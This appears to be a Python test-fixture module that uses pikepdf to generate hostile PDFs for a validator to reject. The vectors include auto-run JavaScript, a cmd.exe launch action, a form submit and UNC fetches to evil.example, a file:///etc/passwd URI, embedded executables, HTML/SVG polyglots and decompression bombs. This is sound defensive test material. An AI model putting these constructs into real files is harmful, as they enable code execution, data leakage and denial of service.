"""PDFs that somebody could send to do harm, made here: {what it is: bytes}. Nothing of them may be taken."""

import zlib
from io import BytesIO
from zipfile import ZipFile

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, Stream, String

SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def a_pdf():
    """One empty page."""
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    return pdf


def saved(pdf, **how):
    made = BytesIO()
    pdf.save(made, **how)
    return made.getvalue()


def good_pdf():
    return saved(a_pdf())


def annotation(pdf, **facts):
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
    for key, value in facts.items():
        note[f"/{key}"] = value
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])


def embedded(pdf, name="x.exe"):
    inside = Stream(pdf, b"MZ")
    inside.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=String(name), EF=Dictionary(F=pdf.make_indirect(inside)))


def set_in(thing, key, value):
    thing[key] = value


ACTIONS = {
    "a script": SCRIPT,
    "a program that is launched": Dictionary(S=Name.Launch, F=String("cmd.exe")),
    "a form that is sent": Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")),
    "data that is fetched": Dictionary(S=Name.ImportData, F=String("\\\\evil.example\\x")),
    "a way to another file": Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share"), D=Array([0, Name.Fit])),
    "a way into a packed file": Dictionary(S=Name.GoToE, D=String("x")),
    "a film": Dictionary(S=Name.Rendition, JS=String("x")),
    "an address of a script": Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
    "an address on the disk": Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
}  # fmt: skip
WAYS = {
    "when it is opened": lambda pdf, act: set_in(pdf.Root, "/OpenAction", act),
    "when a page is seen": lambda pdf, act: set_in(pdf.pages[0].obj, "/AA", Dictionary(O=act)),
    "behind a link": lambda pdf, act: annotation(pdf, A=act),
    "after another act": lambda pdf, act: annotation(pdf, A=Dictionary(S=Name.GoTo, D=String("x"), Next=Array([act]))),
    "deep in a list": lambda pdf, act: set_in(pdf.Root, "/PieceInfo", Array([Array([Array([Dictionary(X=act)])])])),
}
OTHERS = {
    "scripts by name": lambda pdf: set_in(
        pdf.Root, "/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("x"), SCRIPT])))
    ),
    "a packed program": lambda pdf: set_in(
        pdf.Root, "/Names", Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), embedded(pdf)])))
    ),
    "a file that belongs to it": lambda pdf: set_in(pdf.Root, "/AF", Array([embedded(pdf)])),
    "a file hung on to a page": lambda pdf: annotation(pdf, Subtype=Name.FileAttachment, FS=embedded(pdf)),
    "a form in XML": lambda pdf: set_in(pdf.Root, "/AcroForm", Dictionary(XFA=String("<xdp/>"), Fields=Array([]))),
    "a stage": lambda pdf: annotation(pdf, Subtype=Name.RichMedia),
    "a film on the page": lambda pdf: annotation(pdf, Subtype=Name.Movie),
    "a sound": lambda pdf: annotation(pdf, Subtype=Name.Sound),
    "a body in space": lambda pdf: annotation(pdf, Subtype=Name("/3D")),
    "a screen": lambda pdf: annotation(pdf, Subtype=Name.Screen),
}
FORMS = {
    "": {"object_stream_mode": ObjectStreamMode.disable},
    ", packed": {"object_stream_mode": ObjectStreamMode.generate},
    ", in line": {"linearize": True},
}


def acting():
    for form, how in FORMS.items():
        for name, act in ACTIONS.items():
            for way, put in WAYS.items():
                if form != ", in line" or way == "when it is opened":
                    pdf = a_pdf()
                    put(pdf, act)
                    yield f"{name} {way}{form}", saved(pdf, **how)
        for name, put in OTHERS.items():
            pdf = a_pdf()
            put(pdf)
            yield f"{name}{form}", saved(pdf, **how)


def locked():
    for strength in (2, 3, 4, 6):
        for user in ("", "geheim"):
            how = Encryption(owner="eier", user=user, R=strength, aes=strength >= 4, metadata=strength >= 4)
            yield f"locked by {strength}{' for readers' if user else ''}", saved(a_pdf(), encryption=how)


def packed(*entries):
    made = BytesIO()
    with ZipFile(made, "w") as folder:
        for name, content in entries:
            folder.writestr(name, content)
    return made.getvalue()


def two_in_one():
    good, folder = good_pdf(), packed(("x.html", "<script>alert(1)</script>"))
    yield "a PDF and an archive", good + folder
    yield "a PDF and a page", good + b"<html><script>alert(1)</script></html>"
    yield "a PDF and a program", good + b"MZ" + b"\x90" * 5000
    yield "a page before a PDF", b"<html><script>alert(1)</script></html>" + good
    yield "a page in a PDF's name", b"<html><script>alert(1)</script></html>"
    yield "a drawing in a PDF's name", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    yield "a program in a PDF's name", b"MZ\x90\x00" + b"\0" * 500
    yield "an archive in a PDF's name", folder
    yield "a picture before a PDF", b"\xff\xd8\xff\xe0" + good
    yield "a head and nothing else", b"%PDF-1.7"
    yield "a head and an end", b"%PDF-1.7\n%%EOF"
    yield "noise between head and end", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF"
    yield "nothing", b""


def half():
    whole = saved(a_pdf(), object_stream_mode=ObjectStreamMode.generate)
    for share in (10, 30, 50, 70, 85, 95):
        yield f"{share} % of a PDF", whole[: len(whole) * share // 100]


def bombs():
    flood = zlib.compress(bytes(300 * 1024 * 1024), 9)
    yield "a page that becomes 300 MB", streamed(flood, Name.FlateDecode)
    yield "a page packed twice", streamed(zlib.compress(flood, 9), Array([Name.FlateDecode, Name.FlateDecode]))
    thirty = zlib.compress(bytes(30 * 1024 * 1024), 9)
    yield "ten pages that become 300 MB", streamed(thirty, Name.FlateDecode, times=10)
    pdf = a_pdf()
    pdf.pages[0].Contents = Array([])
    deep = saved(pdf).replace(b"/Contents [ ]", b"/Contents " + b"[" * 60_000 + b"]" * 60_000)
    yield "a list in a list, 60,000 times", deep
    yield "no page at all", saved(Pdf.new())


def streamed(content, packing, times=1):
    pdf = a_pdf()
    for _time in range(times):
        stream = Stream(pdf, content)
        stream.Filter = packing
        pdf.pages[0].obj[f"/X{_time}"] = pdf.make_indirect(stream)
    return saved(pdf, stream_decode_level=None, compress_streams=False, recompress_flate=False)


def hostile_pdfs():
    """Every one of them must be refused."""
    for made in (acting, locked, two_in_one, half, bombs):
        yield from made()
